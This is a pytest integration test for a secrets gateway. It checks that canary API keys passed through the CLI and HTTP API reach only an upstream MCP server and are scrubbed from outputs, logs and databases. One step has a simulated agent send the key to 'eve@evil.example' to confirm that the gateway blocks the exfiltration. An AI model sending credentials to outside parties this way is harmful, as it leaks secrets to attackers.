"""Canary: distinctive secret values go in through the CLI and the HTTP API, are leased
into an upstream MCP server through the gateway, and appear nowhere else.

Searched: every HTTP response (status, headers, body), the server's and the gateway's
JSON/text logs, every CLI output, the receipts, exception messages, and the SQLite
database files (``tether.db``, ``-wal``, ``-shm``) as raw bytes. The one place a value
must reach, the upstream's own process, proves it did by writing it to a file; when
that upstream echoes it back, the gateway must scrub it before the agent sees it.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
import textwrap
import time
from pathlib import Path
from typing import Any

import anyio
import httpx
import psycopg
import psycopg.sql
import pytest

from tether import ProofKey, Tether, parse_intent
from tether._errors import TetherError

from .mcp_support.harness import AGENT, OWNER, free_port, mcp_client, wait_for_port
from .server_support import Server, home_database

CANARY_CLI = "cnry-cli-" + "W7f2Kd9QzR4mXp1L"
CANARY_ROTATED = "cnry-rot-" + "B3nV8sJt6YhC0eGa"
CANARY_HTTP = "cnry-http-" + "U5qE2wZr9PkM7xDi"
CANARIES = (CANARY_CLI, CANARY_ROTATED, CANARY_HTTP)
ECHO_IDENTITY = "spiffe://acme.example/tool/echo"

ECHO_SERVER = textwrap.dedent(
    '''
    """An MCP server that shows what credential it was started with (and echoes it)."""
    import os
    from pathlib import Path

    import anyio
    from mcp.server.mcpserver import MCPServer

    server = MCPServer("echo", version="1.0.0")


    def key() -> str:
        value = os.environ.get("ECHO_API_KEY", "")
        if value:
            Path(os.environ["ECHO_PROOF_FILE"]).write_text(value)
        return value


    @server.tool(description="Show the key this server holds.", structured_output=False)
    def show_env() -> str:
        return f"ECHO_API_KEY={key()} (and again: {key()})"


    @server.tool(description="The key, as structured data.")
    def show_env_structured() -> dict[str, str]:
        return {"holder": "echo", "api_key": key()}


    @server.tool(description="Fail, quoting the key.", structured_output=False)
    def fail() -> str:
        raise ValueError(f"upstream rejected key {key()}")


    @server.tool(description="Send a message out.", structured_output=False)
    def send(to: str, body: str) -> str:
        return f"sent {len(body)} characters to {to}"


    anyio.run(server.run_stdio_async)
    '''
)

CATALOGUE = """
[upstreams.tools.show_env]
side_effect = "read"
sensitivity = "public"
trusted = true
sinks = []

[upstreams.tools.show_env_structured]
side_effect = "read"
sensitivity = "public"
trusted = true
sinks = []

[upstreams.tools.fail]
side_effect = "read"
sensitivity = "public"
trusted = true
sinks = []

[upstreams.tools.send]
side_effect = "egress"
sensitivity = "public"
trusted = true
sinks = ["to", "body"]
"""


class Evidence:
    """Everything a canary must not appear in, with where it came from."""

    def __init__(self) -> None:
        self.items: list[tuple[str, str]] = []

    def add(self, where: str, text: str | bytes) -> None:
        if isinstance(text, bytes):
            text = text.decode("utf-8", "replace")
        self.items.append((where, text))

    def response(self, where: str, response: httpx.Response) -> httpx.Response:
        self.add(f"{where}: status", str(response.status_code))
        self.add(f"{where}: headers", json.dumps(dict(response.headers)))
        self.add(f"{where}: body", response.content)
        return response

    def cli(
        self, home: Path, *args: str, env: dict[str, str] | None = None
    ) -> subprocess.CompletedProcess[str]:
        done = subprocess.run(
            [sys.executable, "-m", "tether", "--home", str(home), "--break-glass", *args],
            capture_output=True,
            text=True,
            env=env or _clean_env(),
            check=False,
        )
        self.add(f"cli {' '.join(args)}: stdout", done.stdout)
        self.add(f"cli {' '.join(args)}: stderr", done.stderr)
        return done

    def leaks(self) -> list[str]:
        return [
            f"{where} holds {c[:9]}…" for where, text in self.items for c in CANARIES if c in text
        ]


def _clean_env() -> dict[str, str]:
    return {k: v for k, v in os.environ.items() if not k.startswith("CANARY")}


def _gateway_config(base: Path, port: int, proof_file: Path) -> Path:
    server = base / "echo_server.py"
    server.write_text(ECHO_SERVER)
    config = base / "gateway.toml"
    config.write_text(
        f"""
resource = "http://127.0.0.1:{port}/mcp"
authorization_servers = ["https://tether.acme.example"]
host = "127.0.0.1"
port = {port}

[[upstreams]]
name = "echo"
identity = "{ECHO_IDENTITY}"

[upstreams.stdio]
command = {json.dumps(sys.executable)}
args = [{json.dumps(str(server))}]

[upstreams.stdio.env]
ECHO_PROOF_FILE = {json.dumps(str(proof_file))}

[[upstreams.credentials]]
secret = "echo-key"
env = "ECHO_API_KEY"
{CATALOGUE}
"""
    )
    return config


def _admin(server: Server) -> dict[str, str]:
    return {"Authorization": f"Bearer {server.admin}"}


def test_canaries_reach_only_the_upstream(tmp_path: Path) -> None:
    evidence = Evidence()
    home = tmp_path / "home"
    server = Server(home)  # `tether init` through the CLI
    evidence.add("admin credential", server.admin)
    t = Tether.open(home)
    t.register_identity(AGENT, kind="agent", owner=OWNER)
    t.register_identity(ECHO_IDENTITY, kind="tool", owner=OWNER)
    t.policies.load({"all.cedar": "permit (principal, action, resource);"})

    # 1. Secrets in through the CLI: from the environment, then rotated from a file.
    put = evidence.cli(
        home,
        "secret", "put", "echo-key", "--kind", "api_key", "--from-env", "CANARY_VALUE",
        "--tool", "echo.*", "--json",
        env={**_clean_env(), "CANARY_VALUE": CANARY_CLI},
    )  # fmt: skip
    assert put.returncode == 0, put.stderr
    value_file = tmp_path / "value.txt"
    value_file.write_text(CANARY_ROTATED + "\n")
    rotated = evidence.cli(home, "secret", "rotate", "echo-key", "--from-file", str(value_file))
    assert rotated.returncode == 0, rotated.stderr
    value_file.unlink()
    listed = evidence.cli(home, "secret", "list", "--json")
    versions = json.loads(listed.stdout)["secrets"][0]["versions"]
    assert [v["state"] for v in versions] == ["overlap", "current"]
    # CLI refusals.
    (tmp_path / "bad.txt").write_text(CANARY_CLI)
    for args in (
        ("secret", "put", "Bad Name", "--from-file", str(tmp_path / "bad.txt")),
        ("secret", "put", "x1", "--kind", "nope", "--from-file", str(tmp_path / "bad.txt")),
        ("secret", "put", "echo-key", "--from-file", str(tmp_path / "bad.txt")),
        ("secret", "rotate", "unknown", "--from-file", str(tmp_path / "bad.txt")),
        ("secret", "put", "x2", "--from-env", "CANARY_NOT_SET"),
        ("secret", "put", "x3"),
    ):
        assert evidence.cli(home, *args).returncode != 0, args
    (tmp_path / "bad.txt").unlink()

    # 2. The HTTP API: a write, and every way of getting one wrong.
    server.start()
    base = server.url
    admin = _admin(server)
    auditor = t.credentials.create("auditor", "audit@acme.example")[1]
    evidence.add("auditor credential", auditor)
    written = {"name": "http-key", "value": CANARY_HTTP, "kind": "password"}
    ok = evidence.response(
        "POST secret", httpx.post(f"{base}/v1/secrets", headers=admin, json=written)
    )
    assert ok.status_code == 201 and ok.json()["current_version"] == 1
    bad: list[tuple[dict[str, str], Any, int]] = [
        ({}, {"name": "no-auth", "value": CANARY_HTTP}, 401),
        ({"Authorization": f"Bearer {auditor}"}, {"name": "audit", "value": CANARY_HTTP}, 403),
        (admin, {"name": "Bad Name", "value": CANARY_HTTP}, 400),
        (admin, {"name": CANARY_HTTP, "value": CANARY_HTTP}, 400),
        (admin, {"name": "x", "value": CANARY_HTTP, CANARY_HTTP: 1}, 400),
        (admin, {"name": "x", "value": [CANARY_HTTP]}, 400),
        (admin, {"name": "x", "value": CANARY_HTTP * 5000}, 400),
        (admin, {"name": "x", "value": CANARY_HTTP, "kind": CANARY_HTTP}, 400),
        (admin, {"name": "x", "value": CANARY_HTTP, "kind": "postgres"}, 400),
        (admin, {"name": "http-key", "value": CANARY_HTTP}, 409),
        (admin, f'{{"name": "x", "value": "{CANARY_HTTP}"', 400),
    ]
    for headers, body, status in bad:
        content = body if isinstance(body, str) else json.dumps(body)
        response = evidence.response(
            "POST bad secret",
            httpx.post(
                f"{base}/v1/secrets",
                headers={**headers, "content-type": "application/json"},
                content=content,
            ),
        )
        assert response.status_code == status, (body, response.text)
    for path, body, status in (
        ("/v1/secrets/unknown/rotate", {"value": CANARY_HTTP}, 404),
        ("/v1/secrets/http-key/rotate", {"value": CANARY_HTTP, "x": CANARY_HTTP}, 400),
        ("/v1/secrets/http-key/rotate", {}, 400),  # no value, no hook
    ):
        response = evidence.response(path, httpx.post(base + path, headers=admin, json=body))
        assert response.status_code == status, (path, response.text)
    for path in ("/v1/secrets", "/v1/secrets/http-key", "/v1/leases", "/openapi.json"):
        assert evidence.response(path, httpx.get(base + path, headers=admin)).status_code == 200

    # 3. The gateway injects the leased key into a per-task upstream process.
    port = free_port()
    proof_file = tmp_path / "reached-the-upstream.txt"
    config = _gateway_config(tmp_path, port, proof_file)
    # The operator reviews the upstream's tool definitions and pins them.
    pinned = evidence.cli(home, "gateway", "pin", str(config), "echo", "--json")
    assert pinned.returncode == 0, pinned.stderr
    gateway_log = tmp_path / "gateway.log"
    with open(gateway_log, "wb") as log:
        gateway = subprocess.Popen(
            [
                sys.executable,
                "-m",
                "tether",
                "--home",
                str(home),
                "gateway",
                "--config",
                str(config),
            ],
            stdout=log,
            stderr=log,
            env=_clean_env(),
        )
    try:
        wait_for_port(port)
        url = f"http://127.0.0.1:{port}/mcp"
        key = ProofKey()
        intent = parse_intent(
            {"purpose": "check the echo service", "capabilities": [{"tool": "echo.*"}],
             "data_ceiling": "internal", "budget": {"max_calls": 20}}
        )  # fmt: skip
        task = t.open_task(AGENT, proof_jwk=key.jwk, intent=intent, resources=(url,))

        async def agent() -> dict[str, Any]:
            seen: dict[str, Any] = {}
            async with mcp_client(url, task.token, key) as client:
                for name in ("echo.show_env", "echo.show_env_structured", "echo.fail"):
                    result = await client.call_tool(name, {})
                    seen[name] = result.model_dump(mode="json", by_alias=True)
                leak = {"to": "eve@evil.example", "body": f"the key is {CANARY_ROTATED}"}
                sent = await client.call_tool("echo.send", leak)
                seen["echo.send leak"] = sent.model_dump(mode="json", by_alias=True)
                ok = await client.call_tool("echo.send", {"to": "bob@acme.example", "body": "hi"})
                seen["echo.send"] = ok.model_dump(mode="json", by_alias=True)
            return seen

        seen = anyio.run(agent)
        for name, result in seen.items():
            evidence.add(f"gateway result {name}", json.dumps(result))
        assert "[REDACTED:brokered]" in json.dumps(seen["echo.show_env"])
        assert "[REDACTED:brokered]" in json.dumps(seen["echo.show_env_structured"])
        assert seen["echo.fail"]["isError"]
        assert "secret.egress" in json.dumps(seen["echo.send leak"])
        assert "sent 2 characters" in json.dumps(seen["echo.send"])
        # It did reach the upstream's own process: the current version.
        assert proof_file.read_text() == CANARY_ROTATED
        proof_file.unlink()
        leases = json.loads(evidence.cli(home, "lease", "list", "--json").stdout)["leases"]
        (lease,) = [row for row in leases if row["task_id"] == task.task_id]
        assert (lease["secret"], lease["version"], lease["status"]) == ("echo-key", 2, "active")

        # 4. The task ends over HTTP: the lease is revoked and the process stopped.
        ended = httpx.post(f"{base}/v1/tasks/{task.task_id}/end", headers=admin)
        assert evidence.response("end task", ended).status_code == 200
        deadline = time.monotonic() + 15
        while "stopped the echo connection" not in gateway_log.read_text():
            assert time.monotonic() < deadline, gateway_log.read_text()[-2000:]
            time.sleep(0.2)
        leases = json.loads(evidence.cli(home, "lease", "list", "--json").stdout)["leases"]
        assert {row["status"] for row in leases if row["task_id"] == task.task_id} == {"revoked"}
    finally:
        gateway.terminate()
        gateway.wait(timeout=30)
        server.stop()

    # 5. In-process refusals.
    for attempt in (
        lambda: t.put_secret("Bad Name", CANARY_HTTP, kind="password"),
        lambda: t.put_secret("echo-key", CANARY_HTTP, kind="password"),
        lambda: t.rotate_secret("missing", CANARY_HTTP),
        lambda: t.put_secret("pg", CANARY_HTTP, kind="postgres", meta={"postgres": {"grants": []}}),
    ):
        with pytest.raises(TetherError) as caught:
            attempt()
        evidence.add("exception", f"{caught.value!r} {caught.value}")
    t.close()

    # 6. Receipts, logs and the database files.
    tail = evidence.cli(home, "audit", "tail", "-n", "10000", "--json")
    records = json.loads(tail.stdout)["records"]
    kinds = {r["kind"] for r in records}
    assert {"secret.put", "secret.rotate", "lease.grant", "task.end", "result"} <= kinds
    assert evidence.cli(home, "audit", "verify").returncode == 0
    evidence.add("server log", (home / "server.log").read_bytes())
    evidence.add("gateway log", gateway_log.read_bytes())
    assert '"route": "/v1/secrets"' in (home / "server.log").read_text()
    for name in ("tether.db", "tether.db-wal", "tether.db-shm"):
        if (home / name).exists():
            evidence.add(name, (home / name).read_bytes())
    url = home_database(home)
    if url is not None:  # PostgreSQL: every row of every table of the schema, as text
        with psycopg.connect(url, autocommit=True) as conn:
            tables = conn.execute(
                "SELECT table_name FROM information_schema.tables "
                "WHERE table_schema = current_schema()"
            ).fetchall()
            assert len(tables) > 10
            for (table,) in tables:
                rows = conn.execute(
                    psycopg.sql.SQL("SELECT t::text FROM {} AS t").format(
                        psycopg.sql.Identifier(table)
                    )
                ).fetchall()
                evidence.add(f"table {table}", "\n".join(r[0] for r in rows))
    assert not evidence.leaks(), evidence.leaks()
